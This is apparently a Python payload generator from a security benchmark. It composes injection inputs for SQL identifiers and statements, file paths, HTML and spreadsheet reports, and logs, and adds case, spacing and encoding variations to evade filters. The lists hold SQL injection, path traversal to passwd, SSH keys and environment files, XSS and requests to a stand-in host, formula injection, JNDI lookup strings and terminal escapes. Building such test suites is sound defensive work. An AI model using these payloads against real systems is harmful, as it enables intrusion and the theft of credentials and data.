"""The grammar for places that are no filter value: identifiers, statements, paths, reports and logs. Ours; seeded.

Each place has its own boundaries (what ends the text around), techniques (what is tried), evasions (the same in another
spelling) and encodings. A payload says which technique it is, so that a finding can.
"""

import math
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from typing import Final
from urllib.parse import quote

from jivsbench_security.corpora import load_hostile
from jivsbench_security.payloads import Payload

Change = Callable[[str], str]
_KNOWN_FILE: Final = "etc/passwd"
_COMMENT: Final = re.compile(r"--.*|/\*.*?\*/", re.DOTALL)


class Place(Enum):
    """Where a payload goes."""

    IDENTIFIER = "identifier"
    STATEMENT = "statement"
    PATH = "path"
    REPORT = "report"
    LOG = "log"


@dataclass(frozen=True, slots=True)
class Grammar:
    """The four lists of one place; a payload is encode(evade(start + body + end))."""

    boundaries: tuple[tuple[str, str], ...]
    techniques: dict[str, tuple[str, ...]]
    evasions: tuple[Change, ...]
    encodings: tuple[Change, ...]


def _same(text: str) -> str:
    return text


def _swap_case(text: str) -> str:
    return "".join(letter.upper() if index % 2 else letter.lower() for index, letter in enumerate(text))


def _quote_twice(text: str) -> str:
    return quote(quote(text, safe=""), safe="")


def _as_entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" if not letter.isalnum() else letter for letter in text)


def _as_escapes(text: str) -> str:
    return "".join(f"\\u{ord(letter):04x}" if not letter.isalnum() else letter for letter in text)


def _full_width(text: str) -> str:
    return "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" and not letter.isalnum() else letter for letter in text)


IDENTIFIERS: Final = Grammar(
    boundaries=(
        *(
            ("", ""),
            ('"', ""),
            ('"', '"'),
            ('x"', ' AS "y'),
            ("`", "`"),
            ("[", "]"),
            ("public.", ""),
            ("a.b.c.", ""),
            ('""', '""'),
        ),
        *(("id, ", ""), ("bench_rows", ""), ("bench_rows ", " --"), ("(", ")"), ("U&", ""), ("$$", "$$"), ("\\", ""), (" ", " ")),
    ),
    techniques={
        "break-out": (
            "; DROP TABLE {t}",
            "; SELECT 1",
            ") UNION SELECT * FROM {t}",
            " WHERE 1=1 OR 1=1",
            ", (SELECT 1)",
            " FROM {t}",
        ),
        "other-object": (
            "pg_authid",
            "pg_shadow",
            "information_schema.tables",
            "sqlite_master",
            "mysql.user",
            "pg_catalog.pg_class",
        ),
        "expression": (
            "count(*)",
            "pg_sleep(1)",
            "id::text",
            "id + 1",
            "CASE WHEN 1=1 THEN id END",
            "current_user",
            "*",
            "{t}.*",
        ),
        "truncation": ("a" * 63, "a" * 64, "a" * 63 + "x", "\u00e4" * 32, "a" * 1_000, "{t}" + "_" * 60),
        "odd-letters": (
            "a\0b",
            "a\nb",
            "a\rb",
            "a\tb",
            "\ufeffid",
            "i\u0307d",
            "\u0456d",
            "id\u200b",
            "\u202eid",
            "ID",
            "\u212aelvin",
            "",
        ),
    },
    evasions=(
        _same,
        _swap_case,
        lambda text: text.replace(" ", "/**/"),
        lambda text: text.replace(" ", "\n"),
        lambda t: t.replace('"', '""'),
    ),
    encodings=(_same, quote, _quote_twice, _full_width, _as_escapes, lambda text: text + "\0", lambda text: text + "\u0301"),
)
PATHS: Final = Grammar(
    boundaries=(
        *(
            ("", ""),
            ("out/", ""),
            ("/", ""),
            ("./", ""),
            ("a/", "/."),
            ("", "/"),
            ("", "\0.parquet"),
            ("", "%00.csv"),
            ("file://", ""),
        ),
        *(
            ("//", ""),
            ("\\\\host\\share\\", ""),
            ("C:\\", ""),
            ("~/", ""),
            ("$HOME/", ""),
            ("/proc/self/root/", ""),
            ("job\n", ""),
            (" ", " "),
        ),
    ),
    techniques={
        "climb": tuple("../" * depth + _KNOWN_FILE for depth in range(1, 13)),
        "absolute": (
            f"/{_KNOWN_FILE}",
            "/proc/self/environ",
            "/dev/stdin",
            "/dev/fd/0",
            "/run/secrets/key",
            "/root/.ssh/id_rsa",
        ),
        "sibling": ("../out_evil/x", "../out2/x", "../outer", "..", ".", "../out/../out_evil/x"),
        "link": ("link/x", "link/../x", "link", "hard", "link/link/x"),
        "odd-name": (
            "CON",
            "a" * 256,
            "a/" * 600,
            "x.tmp-0",
            "manifest.json",
            ".jobs/jobs.sqlite3",
            ".cache.key",
            ".audit/trail",
            "-rf",
            "*",
        ),
    },
    evasions=(
        *(
            _same,
            lambda text: text.replace("../", "....//"),
            lambda text: text.replace("../", "..;/"),
            lambda t: t.replace("/", "\\"),
        ),
        *(
            lambda t: t.replace("../", ".././"),
            lambda t: t.replace("..", "\u2024\u2024"),
            lambda t: t.replace("/", "\u2215"),
            lambda t: t.replace("/", "//"),
        ),
    ),
    encodings=(
        *(
            _same,
            quote,
            lambda text: quote(text, safe=""),
            _quote_twice,
            lambda t: t.replace(".", "%2e"),
            lambda t: t.replace("/", "%c0%af"),
        ),
        *(lambda text: text.replace("/", "%252f"), _full_width, lambda text: text.replace("..", "%u002e%u002e")),
    ),
)
REPORTS: Final = Grammar(
    boundaries=(
        *(
            ("", ""),
            ('">', ""),
            ("'>", ""),
            ("-->", "<!--"),
            ("</script>", "<script>"),
            ("</title>", ""),
            ("</style>", ""),
            ("</td>", ""),
        ),
        *(('" ', ' x="'), ("]]>", "<![CDATA["), ("`", "`"), ("</svg>", ""), ("\\';", "//"), ("|", "|"), ("](", ")")),
    ),
    techniques={
        "script": (
            "<script>alert(1)</script>",
            "<script src=//x.test></script>",
            "<script>fetch('//x.test')</script>",
            "<script/x>alert(1)//",
        ),
        "handler": (
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<a autofocus onfocus=alert(1)>x</a>",
        ),
        "url": (
            "<a href=javascript:alert(1)>x</a>",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
        ),
        "request": (
            "<img src=//x.test/p>",
            "<link rel=stylesheet href=//x.test>",
            "<meta http-equiv=refresh content=0;url=//x.test>",
            "<style>@import '//x.test';</style>",
        ),
        "template": ("{{7*7}}", "${7*7}", "{% raw %}", "#{7*7}", "<%= 7*7 %>", "{{config}}"),
        "document": (
            "<base href=//x.test>",
            "<form action=//x.test><button>",
            "<plaintext>",
            "<!--",
            "<noscript>",
            "<math><mtext></form>",
        ),
        "cell": ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", '=HYPERLINK("//x.test")'),
    },
    evasions=(
        _same,
        _swap_case,
        lambda t: t.replace(" ", "/"),
        lambda t: t.replace(" ", "\n"),
        lambda t: t.replace("script", "scr\0ipt"),
        lambda t: t.replace("script", "scrscriptipt"),
    ),
    encodings=(_same, _as_entities, _as_escapes, quote, _full_width, lambda text: "\ufeff" + text),
)
LOGS: Final = Grammar(
    boundaries=(
        *(
            ("", ""),
            ("x\n", ""),
            ("x\r\n", ""),
            ("x\r", ""),
            ("x\u2028", ""),
            ("x\u2029", ""),
            ("x\x85", ""),
            ("x\x0b", ""),
            ("x\x0c", ""),
        ),
        *(('"}\n', ""), ('","', '":"'), ("\0", ""), ("\\n", ""), ("%0d%0a", ""), ("%s%n", ""), ("{}", "")),
    ),
    techniques={
        "forged-line": (
            '{"event":"refused","role":"ADMIN"}',
            '{"level":"INFO","message":"ok"}',
            "INFO login ok user=admin",
            "2024-01-01 ERROR none",
        ),
        "terminal": (
            "\x1b[2J",
            "\x1b[31mred",
            "\x1b]0;title\x07",
            "\x1b]8;;http://x.test\x07click\x1b]8;;\x07",
            "\x1b[?1049h",
            "\x9b31m",
            "\x07",
            "\b\b\b",
        ),
        "direction": ("\u202eabc", "\u2066abc\u2069", "\u200fabc", "a\u200bb", "\ufeffabc"),
        "lookup": ("${jndi:ldap://x.test/a}", "${env:HOME}", "$(id)", "`id`", "%(message)s", "{0.__class__}", "%n%n%n"),
        "size": ("x" * 10_000, "\n" * 1_000, "\\" * 2_000),
    },
    evasions=(_same, _swap_case, lambda text: text.replace(" ", "\t"), lambda text: text * 2),
    encodings=(_same, quote, _as_escapes, _as_entities, _full_width),
)
GRAMMARS: Final = {Place.IDENTIFIER: IDENTIFIERS, Place.PATH: PATHS, Place.REPORT: REPORTS, Place.LOG: LOGS}
# Statements stay what they are: only what means the same to a server is changed.
_STATEMENT_EVASIONS: Final[tuple[Change, ...]] = (
    *(_same, str.upper, str.lower, str.swapcase, lambda text: text.replace(" ", "\n"), lambda text: text.replace(" ", "\t")),
    *(lambda text: text.replace(" ", "/**/"), lambda text: text.replace(" ", "  "), lambda text: text.replace(" ", " /* x */ ")),
)
_STATEMENT_WRAPPERS: Final = (
    *(
        ("", ""),
        ("SELECT 1; ", ""),
        ("", "; SELECT 1"),
        ("  ", "  "),
        ("/* SELECT */ ", ""),
        ("-- a\n", ""),
        ("", " -- b"),
    ),
)


def generate_for(place: Place, choice: random.Random, table: str = "bench_rows", dialect: str = "postgres") -> Iterator[Payload]:
    """Distinct payloads of one place, in an order drawn from the seed; each of them comes once, then it ends."""
    seen: set[str] = set()
    for payload in _shuffled_statements(choice, dialect) if place is Place.STATEMENT else compose(GRAMMARS[place], choice, table):
        if payload.text not in seen:
            seen.add(payload.text)
            yield payload


def compose(grammar: Grammar, choice: random.Random, table: str = "") -> Iterator[Payload]:
    """Every payload of a grammar, in random order; some texts come more than once."""
    bodies = [(technique, body) for technique, texts in grammar.techniques.items() for body in texts]
    sizes = (len(bodies), len(grammar.boundaries), len(grammar.evasions), len(grammar.encodings))
    for body, around, evade, encode in _shuffle(sizes, choice):
        technique, text = bodies[body]
        start, end = grammar.boundaries[around]
        text = grammar.evasions[evade](start + text.replace("{t}", table) + end)
        yield Payload(technique, grammar.encodings[encode](text))


def _shuffled_statements(choice: random.Random, dialect: str) -> Iterator[Payload]:
    # A text of nothing but comments is refused for being none; with a harmless query beside it, it is harmless.
    hostile = [one for one in load_hostile(dialect) if re.search(r"\w", _COMMENT.sub("", one.sql))]
    sizes = (len(hostile), len(_STATEMENT_EVASIONS), len(_STATEMENT_WRAPPERS))
    for number, evade, around in _shuffle(sizes, choice):
        start, end = _STATEMENT_WRAPPERS[around]
        yield Payload(hostile[number].group, start + _STATEMENT_EVASIONS[evade](hostile[number].sql) + end)


def _shuffle(sizes: tuple[int, ...], choice: random.Random) -> Iterator[tuple[int, ...]]:
    """Every combination of one index below each size, once, in random order."""
    whole = math.prod(sizes)
    for number in choice.sample(range(whole), whole):
        rest, indexes = number, []
        for size in reversed(sizes):
            rest, index = divmod(rest, size)
            indexes.append(index)
        yield tuple(reversed(indexes))
